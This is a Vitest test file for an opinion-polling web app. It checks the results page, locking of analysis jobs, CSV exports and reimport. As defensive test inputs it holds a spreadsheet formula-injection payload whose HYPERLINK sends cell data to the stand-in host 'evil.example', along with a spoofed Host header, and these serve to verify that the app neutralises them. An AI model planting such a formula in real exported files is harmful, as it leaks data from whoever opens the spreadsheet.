import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestApp } from "../../../../test/support/app";
import { testDatabases } from "../../../../test/support/databases";
import { importConversation } from "../commands/import-conversation";
import { analyzeChangedConversations } from "../jobs/analyze-conversations";
import { parseCommentsCsv } from "../opendata/comments-csv";
import { parseParticipantsVotesCsv } from "../opendata/participants-votes-csv";
import { parseSummaryCsv } from "../opendata/summary-csv";
import { parseVotesCsv } from "../opendata/votes-csv";
import { loadAnalysis } from "../store/analyses";
import { makeConversation, opinionsTestApp } from "../test/factories";

const SEEDS = Array.from({ length: 10 }, (_, i) => `Stelling ${i + 1} over de buurt`);

describe.each(testDatabases)("opinions report and export on $name", (database) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await opinionsTestApp(database, { votesPerMinute: 1000, votesPerMinutePerIp: 10_000 });
  });
  afterAll(async () => {
    await t?.close();
  });
  const db = () => t.services.db.kysely;

  /** Two camps that answer every statement oppositely, except the last that all agree with. */
  async function polarised() {
    const made = await makeConversation(t, { seeds: SEEDS });
    for (let p = 0; p < 12; p++) {
      const agent = t.agent();
      for (const [j, s] of made.statements.entries()) {
        const vote = j === SEEDS.length - 1 ? "agree" : (j + p) % 2 === 0 ? "agree" : "disagree";
        await agent.post(`/gesprekken/${made.conversation.id}/stemmen`, { statement: String(s.id), vote });
      }
    }
    return made;
  }

  it("says there is no map before the analysis has run, then shows map, table, groups, common ground", async () => {
    const { conversation } = await polarised();
    const early = await t.agent().get(`/gesprekken/${conversation.id}/resultaten`);
    expect(early.body).toContain("te weinig antwoorden");
    expect(await analyzeChangedConversations(t.services, t.clock())).toBe(1);
    const res = await t.agent().get(`/gesprekken/${conversation.id}/resultaten`);
    expect(res.statusCode).toBe(200);
    expect(res.body.match(/<h1/g)).toHaveLength(1);
    expect(res.body).toContain('<svg class="opinion-map"');
    expect(res.body).toContain('role="img"');
    expect(res.body).toContain('aria-labelledby="opinion-map-title opinion-map-desc"');
    expect(res.body).toContain('id="opinion-map-table"');
    expect(res.body).toContain("Groep A: 6 deelnemers");
    expect(res.body).toContain("Groep B: 6 deelnemers");
    expect(res.body).toContain("blauwe cirkel");
    expect(res.body).toContain("12 deelnemers");
    expect(res.body).toContain("Waar iedereen het over eens is");
    for (const file of ["comments.csv", "votes.csv", "participants-votes.csv", "summary.csv"]) {
      expect(res.body).toContain(`/gesprekken/${conversation.id}/export/${file}`);
    }
  });

  it("recomputes only when something changed, and a second process cannot take a claimed conversation", async () => {
    const { conversation, statements } = await polarised();
    expect(await analyzeChangedConversations(t.services, t.clock())).toBe(1);
    const first = await loadAnalysis(db(), conversation.id);
    expect(await analyzeChangedConversations(t.services, t.clock())).toBe(0);
    await t
      .agent()
      .post(`/gesprekken/${conversation.id}/stemmen`, { statement: String(statements[0]!.id), vote: "pass" });
    // Another process holds the claim: this one leaves the conversation alone until it expires.
    await db()
      .updateTable("opinion_conversations")
      .set({ analysis_claim: "other", analysis_claimed_until: new Date(t.clock().getTime() + 60_000).toISOString() })
      .where("id", "=", conversation.id)
      .execute();
    expect(await analyzeChangedConversations(t.services, t.clock())).toBe(0);
    t.clock.advance(61_000);
    expect(await analyzeChangedConversations(t.services, t.clock())).toBe(1);
    const second = await loadAnalysis(db(), conversation.id);
    expect(second!.version).toBeGreaterThan(first!.version);
  });

  it("exports the four openData files, which read back and import as the same groups", async () => {
    const { conversation } = await polarised();
    await analyzeChangedConversations(t.services, t.clock());
    const get = async (file: string) => {
      const res = await t.agent().get(`/gesprekken/${conversation.id}/export/${file}`);
      expect(res.statusCode).toBe(200);
      expect(res.headers["content-type"]).toContain("text/csv");
      expect(res.headers["content-disposition"]).toBe(`attachment; filename="${file}"`);
      return res.body;
    };
    const data = {
      comments: parseCommentsCsv(await get("comments.csv")),
      votes: parseVotesCsv(await get("votes.csv")),
      participantsVotes: parseParticipantsVotesCsv(await get("participants-votes.csv")),
      summary: parseSummaryCsv(await get("summary.csv")),
    };
    expect(data.comments).toHaveLength(SEEDS.length);
    expect(data.votes).toHaveLength(12 * SEEDS.length);
    expect(data.participantsVotes.rows.every((r) => r.groupId !== null)).toBe(true);
    expect(data.summary[0]).toEqual(["topic", conversation.topic]);
    // The conversation's address is the site's own, never the request's Host header.
    const url = `http://localhost:3000/gesprekken/${conversation.id}`;
    expect(data.summary).toContainEqual(["url", url]);
    const spoofed = await t.agent().get(`/gesprekken/${conversation.id}/export/summary.csv`, { host: "evil.example" });
    expect(parseSummaryCsv(spoofed.body)).toContainEqual(["url", url]);
    expect((await t.agent().get(`/gesprekken/${conversation.id}/export/passwords.csv`)).statusCode).toBe(404);

    const imported = await importConversation(t.services, { siteId: t.site.id, actorUserId: null, data });
    await analyzeChangedConversations(t.services, t.clock());
    const original = await loadAnalysis(db(), conversation.id);
    const copy = await loadAnalysis(db(), imported.id);
    const sizes = (a: typeof original) => a!.result.groups.map((g) => g.participants.length).sort();
    expect(sizes(copy)).toEqual(sizes(original));
  });

  it("neutralises formulas in every exported file, keeps -1 votes as numbers, and reads them back", async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
    const { conversation } = await makeConversation(t, {
      topic: "@SUM(1+1) onderwerp",
      seeds: [formula, "+31 6 is geen formule", "Gewone stelling"],
    });
    const statements = await db()
      .selectFrom("opinion_statements")
      .select("id")
      .where("conversation_id", "=", conversation.id)
      .execute();
    const agent = t.agent();
    for (const s of statements)
      await agent.post(`/gesprekken/${conversation.id}/stemmen`, { statement: String(s.id), vote: "disagree" });
    const files: Record<string, string> = {};
    for (const file of ["comments.csv", "votes.csv", "participants-votes.csv", "summary.csv"])
      files[file] = (await t.agent().get(`/gesprekken/${conversation.id}/export/${file}`)).body;
    for (const [file, body] of Object.entries(files))
      for (const line of body.split("\n"))
        for (const cell of line.split(","))
          expect(/^"?[=+@\t\r]|^"?-(?!\d+$)/.test(cell), `${file}: ${cell}`).toBe(false);
    expect(files["comments.csv"]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(files["votes.csv"]).toMatch(/,-1\n/);
    expect(parseCommentsCsv(files["comments.csv"]!).map((c) => c.body)).toEqual(
      expect.arrayContaining([formula, "+31 6 is geen formule"]),
    );
    expect(parseSummaryCsv(files["summary.csv"]!)[0]).toEqual(["topic", "@SUM(1+1) onderwerp"]);
  });
});
